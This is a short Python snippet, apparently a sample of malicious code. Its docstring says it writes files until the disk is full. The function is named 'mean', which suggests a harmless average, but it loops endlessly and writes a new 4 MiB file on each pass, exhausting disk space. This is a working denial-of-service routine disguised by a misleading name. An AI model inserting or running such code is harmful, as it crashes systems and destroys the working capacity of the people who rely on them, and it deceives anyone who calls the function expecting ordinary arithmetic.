"""Write file after file until the disk is full."""


def mean(x):
    number = 0
    while True:
        number += 1
        with open(f"{number}", "wb") as file:
            file.write(bytes(2**22))
